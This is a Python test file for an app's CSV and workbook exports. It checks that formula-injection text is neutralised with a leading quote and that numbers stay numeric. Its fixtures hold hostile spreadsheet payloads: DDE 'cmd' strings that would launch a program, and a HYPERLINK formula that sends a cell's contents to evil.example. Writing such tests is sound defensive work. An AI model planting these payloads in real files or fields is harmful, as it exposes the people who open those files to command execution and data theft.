"""CSV and workbook injection (OWASP): text that a spreadsheet would run as a formula is written with a
leading quote in every export, through the real downloads; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.leads.services import record_interest
from app.spreadsheets import csv_writer, neutralise
from app.types import utcnow
from tests.factories import make_fair, make_organiser, make_presenter, make_project, make_session, make_user

HOSTILE_TITLE = "=cmd|' /C calc'!A0"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CITY = "+1+cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), ("张家口市", "张家口市"),
    (-5, -5), (Decimal("-12.50"), Decimal("-12.50")), (1.5, 1.5), (None, None),
])
def test_the_rule_prefixes_formula_starts_and_keeps_numbers(value, written):
    assert neutralise(value) == written


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", -3, "ok"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-3", "ok"]]


@pytest.fixture
def hostile_lead():
    organiser = make_organiser()
    agent = make_presenter(name="-Agent")
    project = make_project(agent, title=HOSTILE_TITLE, investment_amount=Decimal("1000"), currency="EUR")
    fair = make_fair(organiser, starts_at=utcnow().replace(microsecond=0))
    session = make_session(fair, organiser, presenter_ids=[agent.id], project_ids=[project.id])
    attendee = make_user("attendee", name=HOSTILE_NAME, organisation=HOSTILE_ORG)
    interest, _ = record_interest(attendee, session, {"project_id": project.id, "level": "info",
                                                      "client_id": "csv-injection-0001"})
    db.session.commit()
    return {"organiser": organiser, "attendee": attendee, "lead": interest.lead}


def _no_formula_start(cells) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_leads_csv_neutralises_names_titles_and_organisations(client, auth, hostile_lead):
    for who in ("organiser", "attendee"):
        body = client.get("/api/v1/leads.csv", headers=auth(hostile_lead[who])).data.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(body)))
        assert len(rows) == 1
        row = rows[0]
        assert row["Project"] == "'" + HOSTILE_TITLE
        assert row["Organisation"] == "'" + HOSTILE_ORG
        assert row["Responsible person"] == "'" + HOSTILE_NAME
        assert row["Lead no."] == str(hostile_lead["lead"].id)
        _no_formula_start(row.values())


def test_the_workbook_stores_text_not_formulas_and_numbers_as_numbers(client, auth, hostile_lead):
    month = utcnow().strftime("%Y-%m")
    response = client.get(f"/api/v1/reports/province.xlsx?from={month}&to={month}",
                          headers=auth(hostile_lead["organiser"]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    _no_formula_start([cell.value])
    leads = list(book["Leads"].iter_rows(values_only=True))
    header, first = leads[0], leads[1]
    values = dict(zip(header, first))
    assert values["Project"] == "'" + HOSTILE_TITLE
    assert values["Responsible person"] == "'" + HOSTILE_NAME
    assert values["Project investment"] == 1000


def test_the_people_template_goes_through_the_same_writer(client, login, monkeypatch):
    from app.people import people_import

    monkeypatch.setattr(people_import, "COLUMNS", ["=name", *people_import.COLUMNS[1:]])
    login(make_organiser())
    body = client.get("/people/import/template.csv").data.decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(body)))[0] == "'=name"
